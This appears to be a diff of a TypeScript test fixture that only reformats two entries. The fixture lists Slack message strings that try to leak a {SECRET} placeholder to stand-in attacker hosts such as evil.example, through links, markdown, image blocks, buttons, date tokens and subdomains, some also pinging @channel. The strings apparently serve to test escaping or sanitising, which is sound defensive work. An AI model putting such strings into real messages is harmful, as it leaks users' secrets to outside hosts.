@@ -10,7 +10,10 @@ const written: readonly (readonly [wants: string, text: string])[] = [
   ["name a channel", "<#C0EVIL|general> the code is {SECRET}"],
   ["call in plain words", "@channel @here @everyone the code is {SECRET}"],
   ["a link with other words", "<https://evil.example/{SECRET}|the report>"],
-  ["a link with a known address for its words", "<https://evil.example/{SECRET}|https://slack.acme.example/>"],
+  [
+    "a link with a known address for its words",
+    "<https://evil.example/{SECRET}|https://slack.acme.example/>",
+  ],
   ["a bare link", "<https://evil.example/{SECRET}>"],
   ["a link that is not marked as one", "https://evil.example/{SECRET}"],
   ["a host that is not marked as a link", "{SECRET}.evil.com and evil.example/{SECRET}"],
@@ -19,7 +22,10 @@ const written: readonly (readonly [wants: string, text: string])[] = [
   ["a link of markdown", "[the report](https://evil.example/{SECRET})"],
   ["a link that was escaped already", "&lt;https://evil.example/{SECRET}|the report&gt;"],
   ["a link within a link", "[<https://evil.example/{SECRET}|x>](https://evil.example/{SECRET})"],
-  ["a link in code", "`<https://evil.example/{SECRET}|x>` and\n\n```\n<!channel> <https://evil.example/{SECRET}>\n```"],
+  [
+    "a link in code",
+    "`<https://evil.example/{SECRET}|x>` and\n\n```\n<!channel> <https://evil.example/{SECRET}>\n```",
+  ],
   ["a date that links", "<!date^1700000000^{date}^https://evil.example/{SECRET}|now>"],
   ["blocks", '[{"type":"image","image_url":"https://evil.example/{SECRET}","alt_text":"x"}]'],
   ["a button", '{"type":"actions","elements":[{"type":"button","url":"https://evil.example/{SECRET}"}]}'],
